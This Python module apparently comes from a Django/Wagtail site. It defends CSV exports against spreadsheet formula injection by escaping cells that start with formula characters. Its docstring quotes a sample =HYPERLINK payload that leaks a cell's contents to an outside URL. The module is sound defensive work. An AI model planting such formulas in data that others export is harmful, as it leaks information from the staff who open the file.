"""CSV files that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or carriage return before them) as a formula: public input such
as ``=HYPERLINK("http://…?leak="&A1,"Klicka")`` in a name would run when staff open the export.
Every CSV the site writes goes through :func:`safe_cell` (OWASP's advice: prefix such a cell
with an apostrophe, which the spreadsheet shows as text and does not display).

Numbers are left alone: a negative number written by the site (not typed by a visitor) is data.
"""

import csv
from numbers import Number

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as a CSV cell that no spreadsheet evaluates."""
    if value is None or isinstance(value, bool | Number):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(values):
    return [safe_cell(value) for value in values]


class SafeWriter:
    """A ``csv.writer`` whose cells pass through :func:`safe_cell`."""

    def __init__(self, stream, *args, **kwargs):
        self._writer = csv.writer(stream, *args, **kwargs)

    def writerow(self, values):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_response(filename, header, rows):
    """A CSV download named ``filename``: ``header``, then ``rows``, every cell through
    :func:`safe_cell`, after a byte-order mark so that Excel reads the UTF-8 (å, ä, ö)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = SafeWriter(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response


class SafeDictWriter(csv.DictWriter):
    """A ``csv.DictWriter`` whose cells pass through :func:`safe_cell` (the header too)."""

    def writerow(self, rowdict):
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writeheader(self):
        header = dict(zip(self.fieldnames, self.fieldnames, strict=True))
        return super().writerow({key: safe_cell(value) for key, value in header.items()})


class SafeCsvExportMixin:
    """For Wagtail's ``SpreadsheetExportMixin`` views: CSV cells through :func:`safe_cell`
    (the XLSX export already writes formulas as text)."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return safe_cell(value) if export_format == self.FORMAT_CSV else value


class SafeCsvExportsViewSetMixin:
    """For a ``ModelViewSet`` or ``SnippetViewSet`` with ``list_export``: its index view (and
    so its CSV export) gets :class:`SafeCsvExportMixin`. Mix in before the viewset class."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        base = self.index_view_class
        if not issubclass(base, SafeCsvExportMixin):
            self.index_view_class = type(f"SafeCsv{base.__name__}", (SafeCsvExportMixin, base), {})
